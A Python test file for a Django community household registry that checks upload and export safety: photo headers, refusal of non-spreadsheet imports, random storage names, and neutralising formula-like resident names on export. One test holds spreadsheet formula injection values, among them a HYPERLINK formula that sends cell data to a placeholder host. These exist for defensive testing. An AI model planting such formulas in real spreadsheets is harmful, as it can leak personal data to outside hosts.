"""Visit photos, household imports and register exports carry no script or formula (issue 10, point 1)."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from grid.importing import import_check, import_upload
from grid.models import ImportBatch, Resident
from grid.services import visit_log
from taijiang.core.exceptions import DomainError
from tests.core.files import SCRIPT, image_bytes, make_pdf

pytestmark = pytest.mark.django_db


def _photo(name="p.jpg"):
    return SimpleUploadedFile(name, image_bytes("JPEG"), content_type="image/jpeg")


def test_visit_photo_is_served_inline_as_jpeg_with_safe_headers(client, reg):
    visit, _ = visit_log(actor=reg["worker1"], household=reg["h1"], photo=_photo("x.html"))
    assert visit.photo.name.endswith(".jpg")
    client.force_login(reg["worker1"])
    response = client.get(reverse("grid:visit_photo", args=[visit.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"].startswith("inline;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["Cache-Control"] == "private, no-store"


def test_visit_photo_missing_on_disk_is_404(client, reg):
    visit, _ = visit_log(actor=reg["worker1"], household=reg["h1"], photo=_photo())
    visit.photo.storage.delete(visit.photo.name)
    client.force_login(reg["worker1"])
    assert client.get(reverse("grid:visit_photo", args=[visit.pk])).status_code == 404


def _xlsx_bytes(rows):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize(("name", "data"), [
    ("名册.xlsx", make_pdf()), ("名册.csv", image_bytes("PNG")), ("名册.csv", SCRIPT), ("名册.xlsx", b"PK\x03\x04junk"),
])
def test_import_of_a_non_spreadsheet_is_refused_with_a_clear_message(client, reg, name, data):
    client.force_login(reg["admin_a1"])
    response = client.post(reverse("grid:import_upload"), {"community": reg["a1"].pk,
                                                           "file": SimpleUploadedFile(name, data)})
    assert response.status_code == 200
    errors = " ".join(response.context["form"].errors["file"])
    assert name in errors and "不是表格文件，只支持 .xlsx 或 .csv 文件" in errors
    assert not ImportBatch.objects.exists()


def test_import_is_stored_under_a_random_name_with_the_detected_type(reg):
    csv_text = "楼栋,门牌号,姓名,身份证号\n1号楼,301,吴桂香,\n".encode()
    batch = import_upload(actor=reg["admin_a1"], community=reg["a1"],
                          uploaded=SimpleUploadedFile("evil.html", csv_text))
    assert batch.file.name.startswith("imports/") and batch.file.name.endswith(".csv")
    assert "evil" not in batch.file.name and batch.original_name == "evil.html"
    batch = import_check(actor=reg["admin_a1"], batch=batch, mapping=batch.mapping)  # read back by content
    assert batch.report["rows"] == 1


def test_xlsx_named_csv_is_read_as_xlsx(reg):
    data = _xlsx_bytes([["楼栋", "门牌号", "姓名", "身份证号"], ["1号楼", "301", "吴桂香", ""]])
    batch = import_upload(actor=reg["admin_a1"], community=reg["a1"], uploaded=SimpleUploadedFile("名册.csv", data))
    assert batch.file.name.endswith(".xlsx") and batch.headers == ["楼栋", "门牌号", "姓名", "身份证号"]


def test_oversized_import_is_refused(reg):
    from taijiang.core.uploads import MAX_SPREADSHEET_BYTES

    with pytest.raises(DomainError) as info:
        import_upload(actor=reg["admin_a1"], community=reg["a1"],
                      uploaded=SimpleUploadedFile("名册.csv", b"a,b\n" * (MAX_SPREADSHEET_BYTES // 4 + 1)))
    assert "太大（最大 5 MB）" in str(info.value.message) and info.value.field == "file"
    assert not ImportBatch.objects.exists()


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&F2,"点击")', "+1+1", "-2+3", "@SUM(A1)"])
def test_export_writes_formula_like_names_as_text(client, reg, name):
    Resident.objects.filter(pk=reg["r1"].pk).update(name=name)
    client.force_login(reg["admin_a1"])
    sheet = load_workbook(io.BytesIO(client.get(reverse("grid:export")).content)).active
    cell = next(c for row in sheet.iter_rows(min_row=2) for c in row if c.value == name)
    assert cell.data_type == "s" and cell.quotePrefix
